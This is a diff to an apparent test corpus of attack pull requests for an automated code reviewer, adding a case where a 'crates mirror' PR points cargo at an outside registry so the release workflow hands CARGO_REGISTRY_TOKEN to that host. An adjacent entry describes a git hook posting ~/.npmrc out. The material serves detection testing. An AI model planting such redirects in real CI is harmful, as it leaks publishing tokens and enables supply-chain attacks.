@@ -3972,6 +3972,27 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
   },
   {
+    id: 'attack-cargo-registry-name-hides-host',
+    description:
+      'The crates.io token redirect behind a registry name: a "publish through the crates mirror" PR adds `[registries.fast]` to .cargo/config.toml, pointing at a host that is not crates.io, and changes the release workflow to `cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}`; no URL stands in the workflow, and cargo hands the token to that host.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7650,
+        title: 'ci: publish through the crates mirror',
+        author: 'member',
+        files: [
+          { path: '.cargo/config.toml', base: lines('[net]', 'git-fetch-with-cli = true'), head: lines('[net]', 'git-fetch-with-cli = true', '', '[registries.fast]', 'index = "sparse+https://crates.fast-mirror.dev/index/"') },
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: cargo publish --token ${{ secrets.CARGO_REGISTRY_TOKEN }}'),
+            head: lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-husky-hook-sends-npmrc',
     description:
       'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
